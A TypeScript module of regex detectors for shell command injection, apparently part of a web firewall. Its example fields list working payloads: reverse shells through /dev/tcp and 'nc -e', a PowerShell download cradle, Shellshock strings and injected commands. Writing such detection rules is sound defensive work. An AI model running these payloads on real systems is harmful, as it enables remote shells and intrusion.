/** Detectors of shell programs: what is no list of commands. */

import { SEEN } from '../bytes-seen.ts';
import { afterBlank, beforeBlank, words } from '../literals.ts';
import { patternFamily, type PatternDetector } from '../patterns.ts';

const posix = 'POSIX.1-2017, XCU chapter 2; Bash manual 5.2';
const windows = 'Windows Server command reference; about_PowerShell.exe';
const rows: readonly PatternDetector[] = [
  {
    id: 198_210,
    name: 'shell-field-separator',
    proves: 'writes a blank as `$IFS`',
    source: posix,
    strong: true,
    confirmedBy: [932],
    needs: SEEN.dollar,
    literals: words('$ifs ${ifs $path: ${path: ${home: ${pwd: ${shell: ${hostname:'),
    pattern: /\$\{?IFS(?![a-z])|\$\{?PATH:\d|\$\{(?:HOME|PWD|SHELL|HOSTNAME):\d/g,
    examples: {
      attacks: ['cat$IFS/etc/hosts', '${IFS}', '${PATH:0:1}'],
      benign: ['$ifs', '$5', 'IFS'],
    },
  },
  {
    id: 198_211,
    name: 'shell-zero',
    proves: 'runs the shell again by `$0` or sets what it searches',
    source: posix,
    strong: true,
    confirmedBy: [932],
    needs: 0,
    literals: words(
      '$0 ${0 $shell ${shell $bash ${bash path= ifs= ld_preload= bash_env= perl5lib= prompt_command=',
    ),
    pattern:
      /[;|&\n`(]\s{0,8}\$\{?(?:0|SHELL|BASH)\b\}?(?=\s|$|[;|&<])|[;|&\n]\s{0,8}(?:PATH|IFS|LD_PRELOAD|LD_LIBRARY_PATH|BASH_ENV|PYTHONPATH|PERL5LIB|PROMPT_COMMAND)=(?!\/\s{0,4}(?:;|$))/g,
    examples: {
      attacks: ['8.8.8.8;$0 -c whoami', '1;PATH=uploads;command_ls.png', '|$SHELL'],
      benign: ['sid=1; PATH=/', 'a; path=/x', '$0 and $1'],
    },
  },
  {
    id: 198_212,
    name: 'shell-control',
    proves: 'is a loop or branch of a shell program',
    source: posix,
    strong: true,
    confirmedBy: [932],
    needs: SEEN.semicolon,
    literals: words('while until for then done'),
    pattern:
      /\b(?:while|until|for)\s[^;\n]{1,80};\s{0,4}do\b|\bif\s[^;\n]{1,80};\s{0,4}then\s[^\n]{1,120};\s{0,4}(?:fi|else)\b|;\s{0,4}done(?:\s{0,4}$|;)/g,
    examples: {
      attacks: [
        'while true; do python3 -c x;break;done',
        'for i in a; do echo $i; done',
        'if [ 1 ]; then id; fi',
      ],
      benign: ['if so; then what', 'work; done.', 'while away'],
    },
  },
  {
    id: 198_213,
    name: 'shellshock',
    proves: 'defines a function in an environment variable',
    source: 'CVE-2014-6271; Bash manual 5.2, section 3.3',
    strong: true,
    confirmedBy: [932],
    needs: SEEN.paren | SEEN.brace,
    literals: ['('],
    pattern: /^\s{0,8}\(\s{0,4}\)\s{0,4}\{|\(\)\s{0,4}\{\s{0,4}(?::|_|\(a\))\s{0,4};/g,
    examples: {
      attacks: ['() { :;}; echo x', 'x () { :; }'],
      benign: ['function () { a; }', '() => {}'],
    },
  },
  {
    id: 198_214,
    name: 'shell-glob-command',
    proves: 'names a command by a pattern',
    source: posix,
    strong: true,
    confirmedBy: [932],
    needs: SEEN.slash,
    literals: ['?', '*', '['],
    pattern:
      /(?:^|[\s;|&`(])\/(?:[?*]{1,4}[\w?*]{0,4}|[\w]{1,3}[?*[][\w?*\]]{0,6}|\[\w\][\w?*]{0,4}|bin|usr\/bin)\/(?:[\w]{0,4}[?*][\w?*]{0,10}|\?{2,10}|\[\w\]\w{1,6})(?=[\s;|&`)<>]|$)/g,
    examples: {
      attacks: ['/???/c?t /etc/x', ';/b?n/l?', '/bin/c*t'],
      benign: ['/a/b?c=d', '/**/ok', '/search?q=x'],
    },
  },
  {
    id: 198_215,
    name: 'shell-network-device',
    proves: 'connects a shell to the network',
    source: 'Bash manual 5.2, section 3.6; ncat(1)',
    strong: true,
    confirmedBy: [932],
    needs: 0,
    literals: [
      ...words('/dev/ nc. ncat. netcat bash'),
      ...beforeBlank('nc'),
      ...beforeBlank('ncat'),
      ...afterBlank('-i'),
    ],
    pattern:
      /\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat)(?:\.\w{2,12})?\s[^;|&]{0,60}-[a-z]{0,4}[ec]\s|\b(?:ba|z|k|da)?sh\s{1,4}-i\b|\bbash\s{1,4}-c\b/g,
    examples: {
      attacks: ['bash -i >& /dev/tcp/1.2.3.4/80', 'nc -e /bin/sh 1.2.3.4 80'],
      benign: ['a device for tcp', 'bash is nice', 'nc state'],
    },
  },
  {
    id: 198_216,
    name: 'shell-brace-command',
    proves: 'writes a command and its arguments in braces',
    source: 'Bash manual 5.2, section 3.5.1',
    strong: true,
    confirmedBy: [932],
    needs: SEEN.brace | SEEN.comma,
    literals: ['{'],
    pattern:
      /\{["'\\]{0,2}(?:cat|ls|id|wget|curl|ping|uname|whoami|echo|nc|bash|sh|rm|head|tail|find|sleep|nslookup|tac)["'\\]{0,2},[^{}\s"':]{1,100}\}/g,
    examples: {
      attacks: ['{cat,/etc/hosts}', '{ls,-la}'],
      benign: ['{cat, dog}', '{"id":1,"a":2}', '{a,b}'],
    },
  },
  {
    id: 198_217,
    name: 'windows-command',
    proves: 'runs a command of Windows',
    source: windows,
    strong: true,
    confirmedBy: [932],
    needs: 0,
    literals: words(
      'cmd powershell iex invoke-expression new-object certutil %comspec %systemroot %windir /add get- $env: mshta &',
    ),
    pattern:
      /\bcmd(?:\.exe)?["']?\s{1,4}\/[ckr]\b|\bpowershell(?:\.exe)?["']?\s{1,4}(?:-\w{1,20}\s{1,4}){0,1}(?:-(?:e|en|enc\w{0,12}|c|command|nop\w{0,6}|noni\w{0,12}|w\w{0,12}|ep|exec\w{0,12}|version|file|f)\b|iex|invoke|\(|\[|get-|\$)|\b(?:iex|invoke-expression)\s{0,4}[($"']|new-object\s{1,4}(?:system\.)?net\.(?:webclient|sockets)|\bcertutil(?:\.exe)?\s{1,4}[-/](?:urlcache|decode|f)|%(?:comspec|systemroot|windir)%|\bnet(?:\.exe)?\s{1,4}(?:user|localgroup)\s[^\n]{0,60}\/add|\bget-(?:process|childitem|content|wmiobject|ciminstance|service|host)\b\s{0,4}(?:$|[-|;/)])|\$env:\w|\bmshta(?:\.exe)?\s{1,4}(?:https?|vbscript|javascript):|&\s{0,4}(?:dir|ver|set|type\s\S{1,64}\.(?:ini|txt|log|config))\s{0,4}(?:[&|c]|$)/gi,
    examples: {
      attacks: ['cmd /c dir', 'powershell -enc AAAA', 'IEX(New-Object Net.WebClient)', '1& dir'],
      benign: ['use cmd or powershell', 'net user group', 'get process', 'set & forget'],
    },
  },
  {
    id: 198_218,
    name: 'shell-redirect',
    proves: 'redirects what a command reads or writes',
    source: posix,
    strong: false,
    confirmedBy: [932],
    needs: 0,
    literals: words('>& <<< | /dev/ /tmp/ /var/ /etc/'),
    pattern:
      /2>&1|>\s{0,4}\/(?:dev|tmp|var|etc)\/|<<<|\d?>&\d|\|\s{0,4}base64\s{1,4}-{1,2}d|\|\s{0,4}tee\s/g,
    examples: {
      attacks: ['x 2>&1', 'echo a > /tmp/b', 'x|base64 -d'],
      benign: ['a > b', '2 > 1', 'a << b'],
    },
  },
];

/** The family of shell programs. */
export const shellShapes = patternFamily('shell program', rows);
